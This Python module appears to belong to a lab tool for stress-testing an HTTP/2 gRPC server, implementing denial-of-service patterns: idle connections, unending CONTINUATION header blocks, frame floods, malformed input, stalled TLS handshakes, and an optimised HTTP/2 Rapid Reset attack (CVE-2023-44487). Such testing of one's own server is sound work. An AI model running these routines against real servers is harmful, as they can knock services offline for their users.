"""Connections that say nothing, or too much of what is no call; and rapid resets (CVE-2023-44487)."""

import random
import socket
import ssl
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress
from typing import Final

import numpy as np

from tools.lab.hostile import frames
from tools.lab.hostile.bodies import UNARY
from tools.lab.hostile.connection import CONNECT_TIMEOUT_S, Connection
from tools.lab.hostile.target import Target

FRAMES_AT_ONCE: Final = 1000
MAX_GARBAGE: Final = 5000
BLOCK_PAIRS: Final = 20_000
FIELDS: Final = {":path": "", ":authority": "localhost", "te": "trailers", "content-type": "application/grpc"}
METHOD_POST, SCHEME_HTTP, NEWEST = 0x83, 0x86, 0x80 | 62
"""Indexed fields of HPACK: two of the static table, and the newest of the dynamic one."""
TLS_HELLO: Final = bytes.fromhex("16030100c8010000c40303")


def idle(connections: int) -> Callable[[Target], None]:
    """Keeps connections that make no call."""
    return lambda target: target.keep(connections)


def endless_headers(target: Target) -> None:
    """Sends header blocks that do not end."""
    piece = frames.header("x-more", "x" * 16_000)

    def step(connection: Connection) -> None:
        stream = connection.take_streams()
        connection.send(frames.frame(frames.HEADERS, 0, stream, frames.request_fields(UNARY)))
        for _ in range(FRAMES_AT_ONCE):
            connection.send(frames.frame(frames.CONTINUATION, 0, stream, piece))
            target.count("frames")

    target.keep(2, step)


def flood(one: bytes) -> Callable[[Target], None]:
    """Sends the same frame as fast as the server takes it."""
    many = one * FRAMES_AT_ONCE

    def run(target: Target) -> None:
        def step(connection: Connection) -> None:
            connection.send(many)
            target.count("frames", FRAMES_AT_ONCE)

        target.keep(2, step, pause_s=0)

    return run


def garbage(target: Target) -> None:
    """Sends what is no HTTP/2: noise, HTTP/1.1, the beginning of TLS, and frames of lengths that they have not."""
    noise = random.Random(0)
    kinds = (
        lambda: noise.randbytes(4096),
        lambda: b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
        lambda: TLS_HELLO + noise.randbytes(200),
        lambda: frames.PREFACE + noise.randbytes(4096),
        lambda: frames.PREFACE + frames.settings() + b"\xff\xff\xff\0\0\0\0\0\1" + noise.randbytes(4096),
    )
    while not target.is_over() and target.counts["connected"] < MAX_GARBAGE:
        try:
            with socket.create_connection(target.address, CONNECT_TIMEOUT_S) as connection:
                target.count("connected")
                connection.sendall(kinds[target.counts["connected"] % len(kinds)]())
        except OSError:
            target.count("refused")
            time.sleep(0.01)


def handshakes(silent: int) -> Callable[[Target], None]:
    """Makes TLS connections and leaves each at once, beside so many that never get past their first message."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    def run(target: Target) -> None:
        held = []
        with ExitStack() as stack, suppress(OSError):
            for _ in range(silent):
                held.append(stack.enter_context(socket.create_connection(target.address, CONNECT_TIMEOUT_S)))
                held[-1].sendall(TLS_HELLO)
                target.count("connected")
            while not target.is_over():
                with suppress(OSError), socket.create_connection(target.address, CONNECT_TIMEOUT_S) as connection:
                    context.wrap_socket(connection).close()
                    target.count("calls")

    return run


def resets(path: str, connections: int) -> Callable[[Target], None]:
    """Opens and resets streams on the connections in turn, as fast as the server takes them."""
    first = bytes([METHOD_POST, SCHEME_HTTP])
    fields = FIELDS | {":path": path}
    for name, value in fields.items():
        # Literal with indexing: from then on, each request is six bytes of header.
        first += b"\x40" + frames.header(name, value)[1:]
    rest = bytes([METHOD_POST, SCHEME_HTTP, *range(NEWEST + len(fields) - 1, NEWEST - 1, -1)])
    pairs = BLOCK_PAIRS // connections
    block = _Block(rest, pairs)

    def run(target: Target) -> None:
        known: set[Connection] = set()

        def step(connection: Connection) -> None:
            if connection not in known:
                known.add(connection)
                connection.reset(connection.open(first))
            connection.send(block.starting(connection.take_streams(pairs)))
            target.count("resets", pairs)

        begin = time.monotonic()
        target.keep(connections, step, pause_s=0)
        target.counts["resets_per_s"] = round(target.counts.get("resets", 0) / (time.monotonic() - begin))

    return run


class _Block:
    """The bytes of many pairs of HEADERS and RST_STREAM; only the streams change."""

    def __init__(self, fields: bytes, pairs: int) -> None:
        head = frames.headers(0, fields)
        pair = np.frombuffer(head + frames.rst_stream(0), np.uint8)
        self._bytes = np.tile(pair, (pairs, 1))
        self._places = (5, len(head) + 5)
        self._offsets = 2 * np.arange(pairs)

    def starting(self, stream: int) -> bytes:
        streams = (stream + self._offsets).astype(">u4").view(np.uint8).reshape(-1, 4)
        for place in self._places:
            self._bytes[:, place : place + 4] = streams
        return self._bytes.tobytes()
